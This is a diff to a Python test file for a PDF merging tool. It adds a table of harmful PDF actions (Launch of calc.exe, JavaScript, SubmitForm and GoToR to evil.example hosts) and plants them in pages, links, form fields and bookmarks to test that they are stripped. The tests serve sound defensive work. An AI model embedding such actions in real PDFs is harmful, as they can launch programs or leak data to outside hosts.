@@ -1,10 +1,11 @@
 import io
 
 import pikepdf
-from pikepdf import Array, AttachedFileSpec, Dictionary, Name, OutlineItem
+import pytest
+from pikepdf import Array, AttachedFileSpec, Dictionary, Name, OutlineItem, Pdf
 
 from offload.order import Options
-from offload.press.pdfs.merge import Binder
+from offload.press.pdfs.merge import Binder, disarm
 from tests import typesetting
 from tests.papers import content, paper
 
@@ -71,25 +72,60 @@ def test_attachments_are_kept_by_names_of_their_own() -> None:
     }
 
 
-def test_no_action_that_starts_a_program_survives() -> None:
-    """On a page, in what is on it, after another action, and in a bookmark."""
+HARMFUL: dict[str, dict[str, object]] = {
+    "Launch": {"/S": Name.Launch, "/F": "calc.exe"},
+    "JavaScript": {"/S": Name.JavaScript, "/JS": "app.alert(1)"},
+    "SubmitForm": {"/S": Name.SubmitForm, "/F": "https://evil.example"},
+    "GoToR": {"/S": Name.GoToR, "/F": r"\\evil.example\share\a.pdf"},
+    "None": {"/F": "of no kind"},
+}
 
-    def launch() -> Dictionary:
-        return Dictionary(S=Name.Launch, F="calc.exe")
+
+@pytest.mark.parametrize("kind", HARMFUL)
+def test_no_action_that_reaches_out_survives(kind: str) -> None:
+    """On a page, in what is on it, after another action, in a field and in a bookmark."""
+
+    def harm() -> Dictionary:
+        return Dictionary(HARMFUL[kind])
 
     def link(action: Dictionary) -> Dictionary:
         return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
 
     one = paper("One")
     safe = Dictionary(S=Name.URI, URI="https://example.com")
-    then = Dictionary(S=Name.URI, URI="https://example.org", Next=launch())
-    one.pages[0].obj.Annots = Array([one.make_indirect(link(launch())), link(then), link(safe)])
-    one.pages[0].obj.AA = Dictionary(O=launch())
+    then = Dictionary(S=Name.URI, URI="https://example.org", Next=harm())
+    back = link(safe)
+    back.PA = harm()
+    widget = one.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], FT=Name.Tx, T="a")
+    )
+    widget.AA = Dictionary(K=harm(), F=Array([harm()]))
+    annotations = [one.make_indirect(link(harm())), link(then), back, widget]
+    one.pages[0].obj.Annots = Array(annotations)
+    one.Root.AcroForm = Dictionary(Fields=[widget])
+    one.pages[0].obj.AA = Dictionary(O=harm())
     with one.open_outline() as outline:
         outline.root.append(OutlineItem("One", 0))
-    one.Root.Outlines.First.A = launch()
-    result = merged(("One", one))
+    one.Root.Outlines.First.A = harm()
+    with Pdf.new() as bound:
+        binder = Binder(bound)
+        binder.add(one, "One")
+        [warning] = binder.bind()
+        result = pikepdf.open(io.BytesIO(content(bound)))
+    assert kind in warning
     found = [value for value in result.objects if isinstance(value, Dictionary)]
-    assert "Launch" not in repr(found)
-    actions = [annotation.get("/A") for annotation in result.pages[0].obj.Annots]
-    assert [action and str(action.URI) for action in actions] == [None, None, "https://example.com"]
+    assert f'"/S": "/{kind}"' not in repr(found)
+    links = list(result.pages[0].obj.Annots)[:3]
+    assert ["/A" in it for it in links] == [False, False, True]
+    assert str(links[2].A.URI) == "https://example.com"
+    for it in result.pages[0].obj.Annots:
+        assert "/PA" not in it
+        assert not list(it.get("/AA", Dictionary()).keys())
+
+
+def test_a_field_that_is_its_own_child_ends() -> None:
+    one = paper("One")
+    field = one.make_indirect(Dictionary(FT=Name.Tx, T="a"))
+    field.Kids = Array([field])
+    one.Root.AcroForm = Dictionary(Fields=[field])
+    assert disarm(one) == []
